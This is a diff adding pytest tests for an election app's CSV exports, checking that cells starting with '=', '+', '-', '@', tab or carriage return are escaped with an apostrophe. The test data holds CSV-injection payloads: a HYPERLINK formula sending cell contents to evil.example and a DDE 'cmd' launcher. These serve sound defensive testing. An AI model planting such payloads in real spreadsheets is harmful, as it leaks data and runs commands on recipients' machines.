@@ -117,3 +117,64 @@ def test_downloads_name_their_charset_once(app, client):
         assert response.headers["Content-Type"] == "text/csv; charset=utf-8", path
     signed = client.get(f"/protocol/{row.id}/json")
     assert json.loads(signed.data)["items"][1]["counts"][0]["needed"] == "10/3"
+
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)",
+           "+1+cmd|' /C calc'!A0")
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
+            for cell in row]
+
+
+def _assert_no_formula(text: str) -> None:
+    formulas = [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                and not c.lstrip("+-").replace(",", "").replace(".", "").isdigit()]
+    assert formulas == []
+
+
+def make_hostile_scene():
+    """Names, a group and titles as an attacker would type them on a nomination form."""
+    conference, election, poll = make_paper_election(
+        title="-2+3+cmd|' /C calc'!A0", names=HOSTILE, group="\t=1+1")
+    count_paper_election(poll)
+    motion = open_poll(make_poll(conference, {
+        "kind": "motion", "title": "=1+1", "rules": {"preset": "motion-simple",
+                                                        "overrides": {}}}, paper=True).id)
+    paper.enter_paper_totals(motion.id, paper.PaperEntry(
+        issued=5, cast=5, invalid=0, counts={"motion": {"Y": 4, "N": 1, "A": 0}}))
+    return conference, election
+
+
+def test_protocol_csv_neutralises_formulas_and_keeps_numbers(app):
+    conference, _election = make_hostile_scene()
+
+    text = render_protocol_csv(protocol.build_protocol(conference.id))
+
+    _assert_no_formula(text)
+    names = {row["Kandidatur"] for row in rows(text)}
+    assert {"'" + name for name in HOSTILE} <= names  # shown as typed, behind an apostrophe
+    assert "'=1+1" in names
+    assert {row["Gruppe"] for row in rows(text) if row["Wahlgang"]} == {"'\t=1+1"}
+    assert [row["Ja"] for row in rows(text)] == ["4", "3", "1", "4"]  # numbers stay numbers
+
+
+def test_final_lists_csv_neutralises_formulas(app, client):
+    _conference, election = make_hostile_scene()
+    login(client)
+
+    text = client.get(f"/protocol/elections/{election.id}/lists.csv").get_data(as_text=True)
+
+    _assert_no_formula(text)
+    assert "'" + HOSTILE[0] in _cells(text)
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+49 30 1234", "'+49 30 1234"), ("-", "'-"), ("@x", "'@x"),
+    ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("-3", "-3"), ("1,5", "1,5"), ("+2", "+2"),
+    (-3, -3), ("Anna", "Anna"), ("", "")])
+def test_neutralise_cell(cell, written):
+    from app.services.spreadsheet import neutralise
+
+    assert neutralise(cell) == written
